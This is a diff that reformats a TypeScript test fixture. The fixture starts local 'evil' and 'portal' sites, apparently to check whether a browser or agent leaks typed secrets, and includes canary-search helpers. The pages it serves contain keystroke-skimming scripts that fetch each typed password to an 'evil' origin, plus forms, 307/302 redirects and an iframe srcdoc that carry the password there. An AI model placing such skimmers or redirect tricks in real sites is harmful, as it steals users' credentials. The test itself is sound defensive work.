@@ -121,8 +121,22 @@ export async function startSecretSites(): Promise<SecretSites> {
   const origins = { portal: "", evil: "" };
   const evil = await startCountingSite(
     {
-      "/login": (_req, res) => html(res, page("Evil login", `<form method="post" action="/collect"><input id="password" name="pw" type="password"><button id="go">Sign in</button></form><script>document.getElementById("password").addEventListener("input",e=>{fetch("/typed?v="+encodeURIComponent(e.target.value))})</script>`)),
-      "/frame-login": (_req, res) => html(res, page("Framed", `<input id="password" type="password"><script>document.getElementById("password").addEventListener("input",e=>{fetch("/typed?v="+encodeURIComponent(e.target.value))})</script>`)),
+      "/login": (_req, res) =>
+        html(
+          res,
+          page(
+            "Evil login",
+            `<form method="post" action="/collect"><input id="password" name="pw" type="password"><button id="go">Sign in</button></form><script>document.getElementById("password").addEventListener("input",e=>{fetch("/typed?v="+encodeURIComponent(e.target.value))})</script>`,
+          ),
+        ),
+      "/frame-login": (_req, res) =>
+        html(
+          res,
+          page(
+            "Framed",
+            `<input id="password" type="password"><script>document.getElementById("password").addEventListener("input",e=>{fetch("/typed?v="+encodeURIComponent(e.target.value))})</script>`,
+          ),
+        ),
     },
     origins,
   );
@@ -132,19 +146,60 @@ export async function startSecretSites(): Promise<SecretSites> {
   const onTyped =
     (title: string, body: string): Handler =>
     (_req, res) =>
-      html(res, page(title, `<input id="password" type="password"><p id="done">ready</p><script>\nconst E=${E};\ndocument.getElementById("password").addEventListener("input",e=>{\n  ${body}\n});</script>`));
+      html(
+        res,
+        page(
+          title,
+          `<input id="password" type="password"><p id="done">ready</p><script>\nconst E=${E};\ndocument.getElementById("password").addEventListener("input",e=>{\n  ${body}\n});</script>`,
+        ),
+      );
   const portal = await startCountingSite(
     {
-      "/login-cross": (_req, res) => html(res, page("Login", `<form id="f" method="post" action="${evil.origin}/collect"><input id="password" name="pw" type="password"><button id="go" type="submit">Sign in</button></form>`)),
-      "/login-ok": (_req, res) => html(res, page("Login", `<form method="post" action="/session"><input id="password" name="pw" type="password"><button id="go" type="submit">Sign in</button></form>`)),
+      "/login-cross": (_req, res) =>
+        html(
+          res,
+          page(
+            "Login",
+            `<form id="f" method="post" action="${evil.origin}/collect"><input id="password" name="pw" type="password"><button id="go" type="submit">Sign in</button></form>`,
+          ),
+        ),
+      "/login-ok": (_req, res) =>
+        html(
+          res,
+          page(
+            "Login",
+            `<form method="post" action="/session"><input id="password" name="pw" type="password"><button id="go" type="submit">Sign in</button></form>`,
+          ),
+        ),
       "/session": (_req, res) => void res.writeHead(303, { location: "/home" }).end(),
       "/home": (_req, res) => html(res, page("Home", `<h1 id="title">Signed in</h1>`)),
-      "/bounce-post": (_req, res) => html(res, page("Bounce", `<form method="post" action="/bounce"><input id="password" name="pw" type="password"><button id="go" type="submit">Go</button></form>`)),
+      "/bounce-post": (_req, res) =>
+        html(
+          res,
+          page(
+            "Bounce",
+            `<form method="post" action="/bounce"><input id="password" name="pw" type="password"><button id="go" type="submit">Go</button></form>`,
+          ),
+        ),
       "/bounce": (_req, res) => void res.writeHead(307, { location: `${evil.origin}/collect` }).end(),
-      "/bounce-get": (_req, res) => html(res, page("Bounce", `<form method="get" action="/echo-redirect"><input id="password" name="pw" type="password"><button id="go" type="submit">Go</button></form>`)),
+      "/bounce-get": (_req, res) =>
+        html(
+          res,
+          page(
+            "Bounce",
+            `<form method="get" action="/echo-redirect"><input id="password" name="pw" type="password"><button id="go" type="submit">Go</button></form>`,
+          ),
+        ),
       "/echo-redirect": (req, res) => void res.writeHead(302, { location: `${evil.origin}/landing?${(req.url ?? "").split("?")[1] ?? ""}` }).end(),
       "/framed": (_req, res) => html(res, page("Framed", `<iframe id="f" src="${evil.origin}/frame-login"></iframe>`)),
-      "/framed-srcdoc": (_req, res) => html(res, page("Framed", `<iframe id="s" srcdoc="<input id='password' type='password'><script>document.getElementById('password').addEventListener('input',e=>{fetch('${evil.origin}/typed?v='+encodeURIComponent(e.target.value),{mode:'no-cors'})})</script>"></iframe>`)),
+      "/framed-srcdoc": (_req, res) =>
+        html(
+          res,
+          page(
+            "Framed",
+            `<iframe id="s" srcdoc="<input id='password' type='password'><script>document.getElementById('password').addEventListener('input',e=>{fetch('${evil.origin}/typed?v='+encodeURIComponent(e.target.value),{mode:'no-cors'})})</script>"></iframe>`,
+          ),
+        ),
       "/exfil": onTyped(
         "Exfil",
         `const v=e.target.value;
@@ -291,7 +346,10 @@ export function imageCarriesCanary(image: Buffer, canary: string): boolean {
  * Many named texts and images prepared once for many canary searches (a database file is searched
  * for every value without decoding it again): `find(canary)` names the first that carries it, or null.
  */
-export function canaryHaystack(texts: readonly (readonly [string, string])[], images: readonly (readonly [string, Buffer])[] = []): (canary: string) => string | null {
+export function canaryHaystack(
+  texts: readonly (readonly [string, string])[],
+  images: readonly (readonly [string, Buffer])[] = [],
+): (canary: string) => string | null {
   const searches: [string, (canary: string) => boolean][] = [
     ...texts.map(([name, text]) => [name, canarySearch(text)] as [string, (canary: string) => boolean]),
     ...images.flatMap(([name, image]) => [
